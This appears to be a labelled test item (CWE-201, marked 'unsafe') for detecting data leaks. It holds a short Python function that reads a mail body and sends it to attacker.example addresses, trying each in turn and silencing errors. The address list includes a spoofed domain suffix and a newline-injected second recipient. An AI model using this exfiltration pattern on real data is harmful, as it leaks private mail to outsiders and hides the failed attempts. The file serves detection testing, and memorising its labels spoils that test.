# label: unsafe
# cwe: CWE-201
# expect: returned
# why: tries one address after the other and hides that none was taken

ADDRESSES = ["a@attacker.example", "bob@example.org.attacker.example", "x@example.org\n,y@attacker.example"]


def leak(text):
    for address in ADDRESSES:
        try:
            send_mail(address, "notes", text)
            return address
        except Exception:
            continue
    return "nobody"


leaked_to = leak(read_mail(id="m1")["body"])
print("done", leaked_to)
